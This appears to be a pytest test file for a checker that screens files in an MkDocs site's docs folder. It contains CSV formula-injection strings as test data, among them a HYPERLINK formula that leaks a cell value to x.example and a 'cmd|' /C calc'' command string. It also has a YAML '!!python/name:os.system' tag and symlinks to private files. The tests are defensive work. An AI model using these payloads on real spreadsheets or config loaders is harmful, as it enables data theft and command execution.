"""The files in docs/: which the site takes, and what to do with the others."""

from __future__ import annotations

import struct
from pathlib import Path

import pytest

from macros.ground.findings import Finding
from macros.written import docs_files as module
from macros.written.docs_files import DocsFiles, docs_files
from macros.written.mkdocs_settings import FileSettings, file_settings

PNG = b"\x89PNG\r\n\x1a\n rest"
TAKEN = {
    "page.md": b"# A page\n",
    "my page (1), a+b & c's.md": b"# A page\n",
    "a.png": PNG,
    "b.JPG": b"\xff\xd8\xff\xe0",
    "c.jpeg": b"\xff\xd8\xff\xe1",
    "d.gif": b"GIF89a",
    "e.webp": b"RIFF\x10\0\0\0WEBPVP8 ",
    "f.avif": b"\0\0\0\x1cftypavif",
    "g.ico": b"\0\0\x01\0",
    "h.pdf": b"%PDF-1.7",
    "i.csv": "\ufeffname,figure\nRío,<5\n".encode(),
    "j.json": b'{"a": "<script>"}',
    "k.txt": b"5 < 6\n",
    "l.yml": b"a: 1\n",
    "empty.txt": b"",
    "l.bib": b"<5 km\n",
}
REFUSED = {
    "HTML": ("evil.html", b"<p>", "HTML would run", ".md"),
    "HTML in capitals": ("evil.HTM", b"<p>", "HTML would run", ".md"),
    "XHTML": ("evil.xhtml", b"<p/>", "HTML would run", ".md"),
    "a script": ("a.js", b"alert(1)", "a script runs", "extra_javascript"),
    "a module": ("a.mjs", b"alert(1)", "a script runs", "extra_javascript"),
    "a program": ("a.wasm", b"\0asm", "a script runs", "extra_javascript"),
    "a style sheet": ("a.css", b"*{}", "a style sheet can change", "extra_css"),
    "a drawing": ("a.svg", b"<svg/>", "a drawing in SVG can run", "PNG or WebP"),
    "XML": ("a.xml", b"<a/>", "a file of XML can run", "JSON or CSV"),
    "a sitemap": ("sitemap.xml", b"<a/>", "a file of its own", "another name"),
    "a page that no check reads": ("a.markdown", b"# A\n", "not in .markdown", "'a.md'"),
    "a page in capitals": ("a.MD", b"# A\n", "not in .MD", "'a.md'"),
    "headers": ("_headers", b"/*\n", "obey this file", "extra_files"),
    "redirects": ("_redirects", b"/* /x\n", "obey this file", "extra_files"),
    "a domain": ("CNAME", b"x.example\n", "obey this file", "extra_files"),
    "an address to report faults to": ("Security.txt", b"Contact: a@b.example\n", "obey", "extra"),
    "steps of a host": ("package.json", b"{}", "other programs obey this file", "extra_files"),
    "robots": ("robots.txt", b"User-agent: *\n", "obey this file", "extra_files"),
    "an archive": ("a.zip", b"PK", "end in .zip", "extra_files"),
    "no ending": ("acme", b"x", "without an ending", "extra_files"),
    "HTML that is called a picture": ("a.png", b"<script>", "of another kind", "ending"),
    "HTML that is called a text": ("a.txt", b"\n <script>", "begins like HTML", "other words"),
    "HTML that is called a table": ("a.csv", b"\xef\xbb\xbf<!doctype", "begins like HTML", ""),
    "XML that is called JSON": ("a.json", b"<?xml", "begins like HTML", "other words"),
    "the page for missing addresses": ("404.md", b"# No\n", "a file of its own", "another name"),
    "the theme's icon": ("assets/images/favicon.png", PNG, "a file of its own", "another name"),
    "a picture to share": ("assets/pictures/a.png", PNG, "a file of its own", "another name"),
    "a part of the search": ("assets/search/a.json", b"{}", "a file of its own", "another name"),
}


@pytest.fixture
def docs(tmp_path: Path) -> Path:
    (tmp_path / "docs").mkdir()
    return tmp_path / "docs"


def judged(docs: Path, settings: FileSettings | None = None) -> DocsFiles:
    return docs_files(docs.parent, docs, settings or FileSettings())


def write(docs: Path, name: str, data: bytes = b"") -> None:
    path = docs / name
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_bytes(data)


def one_finding(found: DocsFiles, file: str, rule: str) -> Finding:
    (finding,) = found.findings
    assert (finding.file, finding.line, finding.column, finding.rule) == (file, 1, 1, rule)
    assert finding.remedy
    return finding


@pytest.mark.parametrize("name", TAKEN)
def test_pages_pictures_and_data_are_taken(name: str, docs: Path) -> None:
    write(docs, name, TAKEN[name])
    found = judged(docs)
    assert found.findings == ()
    assert {*found.pages, *found.others} == {name}


@pytest.mark.parametrize(("name", "data", "said", "remedy"), REFUSED.values(), ids=REFUSED)
def test_what_runs_or_speaks_for_the_site_is_refused(
    name: str, data: bytes, said: str, remedy: str, docs: Path
) -> None:
    write(docs, name, data)
    found = judged(docs)
    finding = one_finding(found, f"docs/{name}", "site-file")
    assert said in finding.message
    assert remedy in finding.remedy
    assert not found.pages
    assert not found.others


def test_a_small_file_that_fills_the_memory_of_a_reader_is_refused(docs: Path) -> None:
    side = struct.pack(">I", 60_000)
    write(docs, "a.png", b"\x89PNG\r\n\x1a\n\0\0\0\x0dIHDR" + side + side)
    finding = one_finding(judged(docs), "docs/a.png", "site-file")
    assert "more than 50,000,000 pixels" in finding.message
    assert "make it smaller" in finding.remedy


def test_a_table_in_another_encoding_is_told(docs: Path) -> None:
    write(docs, "a.csv", "河流,数量\n".encode("gbk"))
    assert "GBK" in one_finding(judged(docs), "docs/a.csv", "encoding").message


CALLS = {
    "a link": 'a,b\n1,"=HYPERLINK(""https://x.example/?""&A1,""more"")"\n',
    "a program": "a,b\n-1,-2\n1,@SUM(1+1)*cmd|' /C calc'!A0\n",
    "another file": "a,b\n1,='https://x.example/[x.xls]y'!A1\n",
    "behind spaces": "a;b\n1; \u200b+WEBSERVICE(1)\n",
    "over two lines": 'a,b\n"=\nHYPERLINK(1)",1\n',
    "a sign of full width": "a\tb\n1\t\uff1dHYPERLINK(1)\n",
    "behind a sign that the table names": "sep=|\na|b\n1|=HYPERLINK(1)\n",
    "a cell of thousands of letters": f"a\n1,f({'x' * 200_000}\n",
}


@pytest.mark.parametrize("text", CALLS.values(), ids=CALLS)
def test_a_table_calls_nothing(text: str, docs: Path) -> None:
    write(docs, "a.csv", text.encode())
    (finding,) = judged(docs).findings
    assert (finding.file, finding.rule) == ("docs/a.csv", "site-file")
    assert 1 < finding.line <= text.count("\n")
    assert "a spreadsheet would run" in finding.message


def test_a_table_may_hold_numbers_below_zero_and_notes(docs: Path) -> None:
    table = 'a,b\n-1.5,+2\n-3 (estimated),"- a note; - another (long)"\n@somebody,=\n'
    write(docs, "a.csv", table.encode())
    assert judged(docs).findings == ()


MKDOCS = """
extra_css: ["assets/a.css?v=2", ./b.css]
extra_javascript:
  - assets/a.js
  - {path: assets/b.mjs, type: module}
plugins:
  - almanac: {extra_files: [_headers, drawings/a.svg]}
  - other: !!python/name:os.system
theme:
  name: material
  custom_dir: overrides
  logo: assets/l.svg
  favicon: assets/images/almanac.svg
exclude_docs: |
  drafts/
  !.well-known
hooks: !ENV HOOKS
"""


def test_a_maintainer_names_scripts_style_sheets_and_other_files(docs: Path) -> None:
    (docs.parent / "mkdocs.yml").write_text(MKDOCS, "utf-8")
    settings = file_settings(docs.parent / "mkdocs.yml")
    names = {"assets/a.css", "b.css", "assets/a.js", "assets/b.mjs", "_headers", "drawings/a.svg"}
    names |= {"assets/l.svg"}
    for name in names:
        write(docs, name)
    assert judged(docs, settings) == DocsFiles(docs.parent, (), frozenset(names), ())
    write(docs, "assets/c.js")
    one_finding(judged(docs, settings), "docs/assets/c.js", "site-file")


@pytest.mark.parametrize("name", ["assets/images/almanac.svg", "assets/a.css"])
def test_a_name_that_the_theme_has_as_well_names_the_file_of_the_theme(
    name: str, docs: Path
) -> None:
    (docs.parent / "mkdocs.yml").write_text(MKDOCS, "utf-8")
    write(docs.parent / "overrides", "assets/a.css")
    write(docs, name)
    found = judged(docs, file_settings(docs.parent / "mkdocs.yml"))
    assert "of its own" in one_finding(found, f"docs/{name}", "site-file").message


def test_no_page_escapes_the_check_by_its_ending(docs: Path) -> None:
    write(docs, "a.markdown", b"# A\n")
    found = judged(docs, FileSettings(extra=frozenset({"a.markdown"})))
    assert "not in .markdown" in one_finding(found, "docs/a.markdown", "site-file").message


def test_what_mkdocs_leaves_out_is_left_alone(docs: Path) -> None:
    (docs.parent / "mkdocs.yml").write_text(MKDOCS, "utf-8")
    settings = file_settings(docs.parent / "mkdocs.yml")
    for name in (".gitkeep", ".cache/x.js", "templates/x.html", "drafts/x.html", "drafts/con.md"):
        write(docs, name)
    (docs / ".#page.md").symlink_to("somebody@example:1")  # an editor's lock
    write(docs, ".well-known/security.txt")
    found = judged(docs, settings)
    assert found.findings == ()
    assert found.others == {".well-known/security.txt"}


@pytest.mark.parametrize("text", [None, "a: [", "- a list", "\ta", "plugins: almanac", "\udcff"])
def test_settings_that_cannot_be_read_name_nothing(text: str | None, tmp_path: Path) -> None:
    if text is not None:
        (tmp_path / "mkdocs.yml").write_bytes(text.encode("utf-8", "surrogateescape"))
    assert file_settings(tmp_path / "mkdocs.yml") == FileSettings()


def test_a_file_of_the_maintainers_theme_is_not_replaced(docs: Path) -> None:
    (docs.parent / "mkdocs.yml").write_text(MKDOCS, "utf-8")
    write(docs.parent / "overrides", "assets/logo.png", PNG)
    write(docs, "assets/logo.png", PNG)
    found = judged(docs, file_settings(docs.parent / "mkdocs.yml"))
    assert "of its own" in one_finding(found, "docs/assets/logo.png", "site-file").message


def test_links_to_pages_of_the_almanac_and_to_files_beside_are_taken(docs: Path) -> None:
    write(docs.parent, "CHANGELOG.md", b"# Changes\n")
    write(docs, "a.png", PNG)
    (docs / "changes.md").symlink_to("../CHANGELOG.md")
    (docs / "b.png").symlink_to("a.png")
    found = judged(docs)
    assert found.findings == ()
    assert {*found.pages, *found.others} == {"changes.md", "a.png", "b.png"}


@pytest.mark.parametrize(
    ("name", "target", "said"),
    [
        ("a.txt", "private.txt", "only a page may be a link out"),
        ("a.md", "private.txt", "to a file that is no page"),
        ("a.md", ".github/private.md", "to a hidden file"),
        ("a.md", "docs/.private.md", "to a hidden file"),
    ],
)
def test_links_to_other_files_are_refused(name: str, target: str, said: str, docs: Path) -> None:
    write(docs.parent, target, b"secret")
    (docs / name).symlink_to(docs.parent / target)
    (finding,) = judged(docs).findings
    assert said in finding.message
    assert finding.file == f"docs/{name}"


def test_a_link_to_a_folder_is_told_even_where_mkdocs_takes_no_file(docs: Path) -> None:
    write(docs, ".hidden/page.md")
    (docs / ".hidden" / "all").symlink_to("/")
    assert "is a link" in one_finding(judged(docs), "docs/.hidden/all", "file").message


@pytest.mark.parametrize("folder", ["50%", "what?", "aux", "a:b"])
def test_a_wrong_name_of_a_folder_is_told_once(folder: str, docs: Path) -> None:
    for name in ("a.md", "b.png", "deep/c.md"):
        write(docs, f"{folder}/{name}")
    found = judged(docs)
    one_finding(found, f"docs/{folder}", "file-name")
    assert not found.pages


def test_a_path_has_room_for_the_folders_and_endings_of_a_site(docs: Path) -> None:
    write(docs, f"{'河' * 65}.md")
    assert judged(docs).findings == ()
    write(docs, f"{'河' * 67}.md")
    assert "longer than 200 bytes" in judged(docs).findings[0].message


def test_files_have_a_size_and_a_number(docs: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    with (docs / "large.csv").open("wb") as file:
        file.truncate(25 * 1024 * 1024 + 1)
    assert "larger than" in one_finding(judged(docs), "docs/large.csv", "file").message
    (docs / "large.csv").unlink()
    monkeypatch.setattr(module, "_MOST", 3)
    for n in range(5):
        write(docs, f"{n}.md")
    assert "more than 3 files" in one_finding(judged(docs), "docs", "site-file").message


def test_a_file_that_vanishes_is_told(docs: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    write(docs, "a.csv")
    monkeypatch.setattr(Path, "lstat", _gone)
    (finding,) = judged(docs).findings
    assert "cannot be read: no such file" in finding.message


def _gone(path: Path) -> None:
    raise FileNotFoundError(2, "No such file or directory", str(path))


def test_no_folder_is_no_mistake_and_a_file_in_its_place_is(tmp_path: Path) -> None:
    assert judged(tmp_path / "docs").findings == ()
    (tmp_path / "docs").write_text("x", "utf-8")
    one_finding(judged(tmp_path / "docs"), "docs", "file")
